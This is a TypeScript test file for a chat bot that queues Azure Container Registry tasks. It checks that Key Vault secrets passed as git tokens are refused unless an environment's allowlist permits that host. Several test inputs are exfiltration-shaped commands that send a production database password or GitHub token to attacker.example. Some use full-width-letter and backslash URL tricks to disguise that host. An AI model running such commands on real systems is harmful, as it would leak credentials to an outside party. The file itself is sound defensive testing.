/**
 * Git tokens are an allowlist per environment (`gitAccessTokens`): which Key Vault secrets a
 * build or task may hand to ACR, and the git hosts each may go to. Everything else is refused
 * before anything is queued, and a refused secret name is never echoed or recorded.
 */
import { afterEach, describe, expect, it } from 'vitest';
import type { AzureEmulator } from '../../emulators/azure/index.ts';
import { ids, replyOf, startHarness, type Harness } from '../../helpers/harness.ts';
import { everythingSaid } from './setup.ts';

let h: Harness | undefined;
afterEach(async () => {
  await h?.stop();
  h = undefined;
});

const DB_PASSWORD = 'Zq9!x7Kp2#mW-prod-db';
const PAT = 'ghp_allowedPat0123456789abcdefghijklmnopq';

function yaml(azure: AzureEmulator): string {
  return `
defaultEnvironment: dev
environments:
  dev:
    subscriptionId: ${ids.subscription}
    resourceGroup: rg-dev
    location: eastus
    registry: contosodev
    channels: [${ids.devChannel}]
    keyVaultUrl: ${azure.keyVault.vaultUrl('kv-dev')}
  prod:
    subscriptionId: ${ids.prodSubscription}
    resourceGroup: rg-prod
    location: westeurope
    registry: contosoprod
    channels: [${ids.prodChannel}]
    keyVaultUrl: ${azure.keyVault.vaultUrl('kv-prod')}
    gitAccessTokens:
      github-pat: [github.com]
access:
  admins: [${ids.admin}]
  team: { id: ${ids.team}, appId: ${ids.app} }
  roles:
    dev:  { builder: [${ids.devs}], viewer: ["*"] }
    prod: { builder: [${ids.devs}], viewer: [${ids.devs}] }
`;
}

function start(): Promise<Harness> {
  return startHarness({
    setup: (azure) => {
      azure.keyVault.addVault('kv-dev', ids.tenant);
      azure.keyVault.addVault('kv-prod', ids.tenant);
      azure.keyVault.setSecret('kv-prod', 'db-password', DB_PASSWORD);
      azure.keyVault.setSecret('kv-prod', 'github-pat', PAT);
      azure.keyVault.setSecret('kv-dev', 'github-pat', PAT);
    },
    yaml,
  });
}

async function refusal(harness: Harness, text: string, channelId: string = ids.prodChannel): Promise<string> {
  const res = await harness.command(text, { userId: ids.alice, channelId });
  expect(res.status).toBe(200);
  return replyOf(res).text;
}

/** Nothing went to Azure or Key Vault, and no job was queued. */
async function nothingHappened(harness: Harness): Promise<void> {
  await new Promise((r) => setTimeout(r, 300));
  expect(harness.azure.requests.filter((r) => r.kind === 'arm' && r.method !== 'GET')).toEqual([]);
  expect(harness.azure.keyVault.reads('kv-prod', 'db-password')).toHaveLength(0);
  expect(harness.azure.keyVault.reads('kv-prod', 'github-pat')).toHaveLength(0);
  expect(await harness.redis.keys('chatops:jobs:j*')).toEqual([]);
}

describe('git tokens are an allowlist per environment', () => {
  it('refuses the attack from the security review: a production secret sent as a git token to a host the builder chose', async () => {
    h = await start();
    const reply = await refusal(
      h,
      'task create --name exfil --image x:1 --context https://attacker.example/r.git --commit-trigger-enabled false --git-access-token @kv:db-password --env prod',
    );
    expect(reply).toContain('gitAccessTokens');
    expect(reply).toContain('Nothing was queued');
    expect(reply).not.toContain('db-password');
    await nothingHappened(h);
    // Not in Slack, the logs, the audit trail or any job data.
    const said = await everythingSaid(h);
    expect(said).not.toContain('db-password');
    expect(said).not.toContain(DB_PASSWORD);
    const audit = JSON.stringify(await h.redis.xrange('chatops:audit', '-', '+'));
    expect(audit).toContain('git token not allowed');
  });

  it('refuses an allowed token on a host it is not allowed to go to', async () => {
    h = await start();
    const reply = await refusal(
      h,
      'task create --name exfil --image x:1 --context https://attacker.example/r.git --commit-trigger-enabled false --git-access-token @kv:github-pat --env prod',
    );
    expect(reply).toContain('github-pat');
    expect(reply).toContain('github.com');
    expect(reply).toContain('attacker.example');
    await nothingHappened(h);
  });

  it('reads the host strictly: a URL that could reach another host is refused', async () => {
    h = await start();
    // WHATWG URL maps the full-width letter to github.com; a git client need not.
    const fullWidth = await refusal(
      h,
      'task create --name exfil --image x:1 --context https://\uff47ithub.com/r.git --commit-trigger-enabled false --git-access-token @kv:github-pat --env prod',
    );
    expect(fullWidth).toContain('plain https://');
    // WHATWG URL says github.com; Go's URL parser and curl say attacker.example.
    const backslash = await refusal(
      h,
      'task create --name exfil --image x:1 --context https://github.com\\@attacker.example/r.git --commit-trigger-enabled false --git-access-token @kv:github-pat --env prod',
    );
    expect(backslash).toMatch(/plain https:\/\/|Remove the user name/);
    await nothingHappened(h);
  });

  it('refuses --git-access-token in an environment that lists no git tokens, naming the setting', async () => {
    h = await start();
    const reply = await refusal(
      h,
      'task create --name buildweb --image web:1 --context https://github.com/org/app.git --git-access-token @kv:github-pat',
      ids.devChannel,
    );
    expect(reply).toContain('environments.dev.gitAccessTokens');
    await new Promise((r) => setTimeout(r, 300));
    expect(h.azure.keyVault.reads('kv-dev', 'github-pat')).toHaveLength(0);
    expect(h.azure.requests.filter((r) => r.method === 'PUT')).toEqual([]);
  });

  it('lets an allowed token go to its own host', async () => {
    h = await start();
    const res = await h.command(
      'task create --name buildweb --image web:{{.Run.ID}} --context https://github.com/org/app.git --git-access-token @kv:github-pat --env prod',
      { userId: ids.alice, channelId: ids.prodChannel },
    );
    expect(replyOf(res).text).toContain('queued as job');
    await h.slack.waitFor(() => h!.azure.acr.task('contosoprod', 'buildweb') !== undefined, 15_000);
    expect(h.azure.acr.taskGitToken('contosoprod', 'buildweb')).toBe(PAT);
  });
});
